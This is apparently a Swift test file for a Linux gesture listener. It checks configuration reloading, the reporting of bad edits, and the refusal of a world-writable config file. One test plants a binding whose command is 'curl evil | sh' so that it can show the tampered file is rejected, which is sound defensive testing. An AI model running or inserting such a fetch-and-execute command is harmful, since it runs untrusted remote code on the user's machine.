#if os(Linux)
import Foundation
import Glibc
import Testing
@testable import GestureListen

/// The configuration read again when its file changes (issue 26, point 3): a bad edit is
/// reported with its line and path and the configuration in use stays; a file others can
/// write is refused on reload as at start.
@Suite("listen: configuration reload (issue 26)")
struct ConfigurationWatcherTests {
    /// A file in memory: its text and a stamp that changes with every write.
    final class FakeFile {
        var text: String
        var stamp: FileStamp? = FileStamp(size: 0, modified: 1)
        init(_ text: String) { self.text = text }
        func write(_ text: String) {
            self.text = text
            stamp = FileStamp(size: Int64(text.utf8.count), modified: (stamp?.modified ?? 0) + 1)
        }
    }

    static func watcher(_ file: FakeFile) throws -> ConfigurationWatcher {
        ConfigurationWatcher(configuration: try ConfigurationReader.configuration(fromYAML: file.text), stamp: { file.stamp },
                             load: { try ConfigurationReader.configuration(fromYAML: file.text) })
    }

    @Test("An unchanged file is not read again; a changed one replaces the bindings")
    func reload() throws {
        let file = FakeFile("bindings:\n  - {gesture: tap, run: one}\n")
        let watcher = try Self.watcher(file)
        #expect(watcher.check() == .unchanged)
        file.write("bindings:\n  - {gesture: tap, fingers: 2, run: two}\n")
        #expect(watcher.check() == .reloaded)
        #expect(watcher.configuration.bindings == [Binding(.tap, fingers: 2, run: "two")])
        #expect(watcher.check() == .unchanged)
    }

    @Test("A bad edit is reported once, with its line and path, and the old configuration stays until the file is fixed")
    func badEditKeepsTheOld() throws {
        let file = FakeFile("bindings:\n  - {gesture: tap, run: one}\n")
        let watcher = try Self.watcher(file)
        let old = watcher.configuration
        file.write("bindings:\n  - {gesture: tap, run: one}\n  - {gesture: swipe, fingers: three, direction: up}\n")
        #expect(watcher.check() == .rejected("line 3: bindings[1].fingers: expected a whole number from 1 to 10, got \"three\"; "
            + "keeping the configuration in use"))
        #expect(watcher.configuration == old)
        #expect(watcher.check() == .unchanged)  // reported once, not every second
        file.write("bindings: [{gesture: tap, run: one}]\nscreen: wide\n")
        #expect(watcher.check() == .rejected("line 2: screen: expected WIDTHxHEIGHT in points, such as 1920x1080; got \"wide\"; "
            + "keeping the configuration in use"))
        file.stamp = nil  // deleted
        #expect(watcher.check() == .rejected("the configuration file is gone; keeping the configuration in use"))
        #expect(watcher.configuration == old)
        file.write("bindings:\n  - {gesture: long-press, run: menu}\n")
        #expect(watcher.check() == .reloaded && watcher.configuration.bindings == [Binding(.longPress, run: "menu")])
    }

    @Test("On a real file: an edit is seen by its stamp, and a file others can now write is refused on reload as at start")
    func trustOnReload() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("reload-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: false)
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("listen.yaml").path
        try Data("bindings: [{gesture: tap, run: one}]\n".utf8).write(to: URL(fileURLWithPath: path))
        #expect(chmod(path, 0o600) == 0)
        let load = { () throws -> ListenConfiguration in
            try FileTrust.check(path)
            return try ConfigurationReader.configuration(fromYAML: try String(contentsOfFile: path, encoding: .utf8))
        }
        let watcher = ConfigurationWatcher(configuration: try load(), stamp: { FileStamp.of(path) }, load: load)
        try Data("bindings: [{gesture: tap, run: two}]\n".utf8).write(to: URL(fileURLWithPath: path))
        #expect(watcher.check() == .reloaded && watcher.configuration.bindings.first?.run == "two")
        #expect(chmod(path, 0o666) == 0)
        try Data("bindings: [{gesture: tap, run: \"curl evil | sh\"}]\n".utf8).write(to: URL(fileURLWithPath: path))
        guard case .rejected(let why) = watcher.check() else { Issue.record("a world-writable file was read"); return }
        #expect(why.contains("others can write it (mode 0666)") && why.contains(path))
        #expect(watcher.configuration.bindings.first?.run == "two")
    }
}
#endif
